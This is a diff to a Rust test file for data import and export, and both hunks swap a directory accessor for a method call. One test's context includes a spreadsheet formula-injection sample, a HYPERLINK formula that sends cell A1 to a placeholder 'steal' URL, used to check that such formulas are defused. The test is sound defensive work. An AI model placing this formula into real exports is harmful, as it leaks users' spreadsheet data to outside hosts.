@@ -93,7 +93,7 @@ const CREATE_TEAMS: ImportOptions = ImportOptions { dry_run: false, skip_invalid
 
 async fn an_export_imports_into_a_fresh_authority_as_the_same_workers(db: &TestDb) {
     let store = db.store.clone();
-    let dir: &Path = &db.dir.0;
+    let dir: &Path = db.dir();
     let today = today();
     for demo in generate(Scale::Seeds, today, 11).expect("demo data") {
         let f = framework(demo.framework.as_str());
@@ -201,7 +201,7 @@ async fn a_dry_run_writes_nothing_and_a_second_import_finds_everyone_already_the
 
 async fn formulas_in_names_are_defused_in_both_formats_and_survive_the_round_trip(db: &TestDb) {
     let store = db.store.clone();
-    let dir: &Path = &db.dir.0;
+    let dir: &Path = db.dir();
     let f = framework("rotherham");
     let scope = authority(&store, "rotherham", "rotherham").await;
     let evil = r#"=HYPERLINK("http://example.invalid/steal?d="&A1,"Click me")"#;
